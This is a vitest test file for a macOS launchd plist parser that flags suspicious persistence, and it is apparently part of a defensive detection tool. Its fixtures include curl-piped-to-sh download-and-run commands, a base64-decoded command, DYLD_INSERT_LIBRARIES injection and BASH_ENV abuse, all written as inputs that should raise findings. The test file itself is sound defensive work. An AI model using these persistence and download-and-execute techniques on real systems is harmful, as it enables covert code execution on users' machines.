import { describe, expect, test } from 'vitest';
import { type PlistValue, readPlist } from '../../../src/base/plist/index.js';
import { findingMeaning } from '../../../src/event/findings.js';
import { launchItem, persistenceOf } from '../../../src/mechanisms/launch-item.js';

function item(fields: Record<string, PlistValue>) {
  const result = launchItem(
    new Map(Object.entries({ Label: 'com.example', Program: '/usr/bin/true', ...fields })),
  );
  if (result === undefined) throw new Error('not a launch item');
  return result;
}

test('what launchd reads', () => {
  const { fields, findings } = item({
    ProgramArguments: ['true', '-x'],
    RunAtLoad: true,
    KeepAlive: false,
    Disabled: false,
    UserName: 'root',
    WatchPaths: ['/private/tmp'],
    StartInterval: 60,
  });
  expect(fields).toMatchObject({
    label: 'com.example',
    program: '/usr/bin/true',
    program_arguments: ['true', '-x'],
    run_at_load: true,
    keep_alive: false,
    disabled: false,
    user_name: 'root',
    triggers: ['StartInterval', 'WatchPaths'],
  });
  expect(JSON.parse(fields.json ?? '')).toMatchObject({ Label: 'com.example', StartInterval: 60 });
  expect(findings).toEqual([]);
});

test.each<[string, Record<string, PlistValue>, boolean | undefined]>([
  ['a dictionary of conditions', { KeepAlive: new Map([['SuccessfulExit', false]]) }, true],
  ['a number', { KeepAlive: 1 }, true],
  ['the older word', { OnDemand: false }, true],
  ['both words: the newer one counts', { OnDemand: false, KeepAlive: false }, false],
  ['a text', { KeepAlive: 'yes' }, undefined],
])('kept alive by %s', (_, given, expected) => {
  expect(item(given).fields.keep_alive).toBe(expected);
});

test('wrong types are left out, and noted', () => {
  const { fields, findings } = item({
    Program: 7,
    ProgramArguments: 8,
    RunAtLoad: 'yes',
    UserName: ['root'],
  });
  expect(Object.keys(fields).sort()).toEqual(['json', 'label']);
  expect(findings).toEqual(['wrong-type', 'no-program']);
});

test('a program that is written as a list, and arguments that are a text', () => {
  const { fields, findings } = item({ Program: ['/tmp/a'], ProgramArguments: 'b' });
  expect(fields).toMatchObject({ program: '/tmp/a', program_arguments: ['b'], runs: ['/private/tmp/a'] });
  expect(findings).toEqual(['wrong-type', 'program-in-tmp']);
});

test("keys in another case, and those that Apple's lists put under a condition", () => {
  const odd = new Map<string, PlistValue>([
    ['LABEL', 'com.example'],
    ['#IfFeatureFlagEnabled', 'A/B'],
    ['#Then', new Map([['Program', '/usr/local/bin/x']])],
  ]);
  expect(launchItem(odd)).toMatchObject({
    fields: { label: 'com.example', program: '/usr/local/bin/x', runs: ['/usr/local/bin/x'] },
    findings: ['key-in-other-case'],
  });
});

test('of repeated keys all labels and all programs are told', () => {
  const value = new Map<string, PlistValue>([
    ['Label', 'b'],
    ['Program', '/usr/bin/true'],
  ]);
  const repeated = new Map<string, PlistValue[]>([
    ['Label', ['a', 'b']],
    ['Program', ['/tmp/.x']],
  ]);
  const read = launchItem(value, { repeated });
  expect(read?.fields).toMatchObject({
    label: 'b',
    other_labels: ['a'],
    runs: ['/usr/bin/true', '/private/tmp/.x'],
  });
  expect(read?.findings).toEqual(['program-in-tmp', 'hidden-program']);
});

test('a list of other things than texts', () => {
  expect(
    item({ ProgramArguments: ['a', 1, true, new Map(), ['b'], 2n ** 60n] }).fields.program_arguments,
  ).toEqual(['a', '1', 'true', String(2n ** 60n)]);
});

test('what is no dictionary is no launch item', () => {
  for (const value of ['x', 1, null, ['Label'], new Uint8Array(1)]) expect(launchItem(value)).toBeUndefined();
});

test('texts and lists are bounded', () => {
  const { fields } = item({
    Label: 'x'.repeat(1e6),
    ProgramArguments: Array<PlistValue>(1e5).fill('y'.repeat(100)),
  });
  expect(JSON.stringify(fields).length).toBeLessThan(80_000);
});

describe('findings', () => {
  test.each<[string, Record<string, PlistValue>, string[]]>([
    [
      'an ordinary updater',
      { ProgramArguments: ['/Applications/X.app/Contents/MacOS/updater', '--check'] },
      [],
    ],
    [
      'a shell script that is a file',
      { Program: '/bin/sh', ProgramArguments: ['sh', '/usr/local/bin/x.sh', '-c'] },
      [],
    ],
    ['no label', { Label: '' }, ['no-label']],
    ['no program', { Program: '' }, ['no-program']],
    ['a program in /tmp', { Program: '/tmp/x' }, ['program-in-tmp']],
    ['in /private/var/folders', { Program: '/private/var/folders/ab/x' }, ['program-in-tmp']],
    ['in the shared folder', { Program: '/Users/Shared/x' }, ['program-in-tmp']],
    ['a hidden program', { Program: '/Users/a/.x/y' }, ['hidden-program']],
    ['a path with dots that hide nothing', { Program: '/Users/a/../b/./c.d' }, []],
    ['sh -c', { Program: '/bin/sh', ProgramArguments: ['sh', '-lc', 'true'] }, ['interpreter-one-liner']],
    [
      'python -c',
      { Program: '/usr/bin/python3.12', ProgramArguments: ['p', '-c', ''] },
      ['interpreter-one-liner'],
    ],
    [
      'osascript -e',
      { Program: '/usr/bin/osascript', ProgramArguments: ['o', '-e', ''] },
      ['interpreter-one-liner'],
    ],
    [
      'a download',
      { Program: '/bin/bash', ProgramArguments: ['bash', '-c', 'curl -s 198.51.100.7 | sh'] },
      ['interpreter-one-liner', 'network-download', 'remote-script'],
    ],
    ['something decoded', { ProgramArguments: ['x', 'echo eA== | base64 --decode'] }, ['encoded-command']],
    [
      'a library put into the program',
      { EnvironmentVariables: new Map([['DYLD_INSERT_LIBRARIES', '/x.dylib']]) },
      ['dyld-environment'],
    ],
  ])('%s', (_, given, expected) => {
    expect(item(given).findings).toEqual(expected);
    for (const finding of expected) expect(findingMeaning(finding)).toMatch(/\.$/);
  });
});

describe("Elastic Defend's fields", () => {
  test('arguments alone, no program in their place', () => {
    expect(
      persistenceOf('/Library/LaunchAgents/x.plist', { program_arguments: ['a', 'b'], program: 'c' }),
    ).toEqual({
      name: 'x.plist',
      path: '/Library/LaunchAgents/x.plist',
      args: ['a', 'b'],
      runatload: false,
      keepalive: false,
    });
    expect(persistenceOf('/x', { program: 'c', run_at_load: true, keep_alive: true })).toMatchObject({
      runatload: true,
      keepalive: true,
    });
    expect(persistenceOf('/x', { program: 'c' }).args).toBeUndefined();
  });
});

test('its own code is what does not come with macOS: programs, scripts and script texts', () => {
  const own = (fields: Record<string, PlistValue>) => item(fields).fields.own_code;
  expect(own({ ProgramArguments: ['true', '-x'] })).toBeUndefined();
  expect(own({ Program: '/opt/x', ProgramArguments: ['x', '-d'] })).toEqual(['/opt/x']);
  expect(own({ Program: '/bin/sh', ProgramArguments: ['sh', '-c', 'curl -s http://x | sh'] })).toContain(
    'curl -s http://x | sh',
  );
  // As it is written and as events spell it.
  expect(own({ Program: '/bin/sh', ProgramArguments: ['sh', '/tmp/x.sh'] })).toEqual([
    '/tmp/x.sh',
    '/private/tmp/x.sh',
  ]);
  const many = own({ ProgramArguments: Array.from({ length: 500 }, (_, index) => `/opt/${index}`) });
  expect(many).toHaveLength(16);
  expect(own({ ProgramArguments: ['x', `/opt/${'y'.repeat(5_000)}`] })).toBeUndefined();
});

test.each([
  [
    'the key itself',
    `<key>EnvironmentVariables</key><dict><key>BASH_ENV</key><string>/tmp/x</string></dict>
<key>EnvironmentVariables</key><dict><key>A</key><string>b</string></dict>`,
  ],
  [
    'a variable in it',
    `<key>EnvironmentVariables</key><dict><key>BASH_ENV</key><string>/tmp/x</string>
<key>BASH_ENV</key><string></string></dict>`,
  ],
])('an environment that is said twice counts in both forms: %s', (_, xml) => {
  const text = `<plist><dict><key>Label</key><string>com.example</string>
<key>Program</key><string>/usr/local/bin/x</string>${xml}</dict></plist>`;
  const list = readPlist(Buffer.from(text));
  if (!list.ok) throw new Error(list.detail);
  const found = launchItem(list.value, { repeated: list.repeated });
  expect(list.findings).toContain('plist-duplicate-key');
  expect(found?.findings).toEqual(expect.arrayContaining(['environment-runs-code', 'program-in-tmp']));
  expect(found?.fields.runs).toContain('/private/tmp/x');
});

test('more arguments than are read are a finding', () => {
  const many = [...Array.from({ length: 5_000 }, () => 'A=1'), '/tmp/x'];
  expect(item({ ProgramArguments: ['env', ...many] }).findings).toContain('plist-too-complex');
});
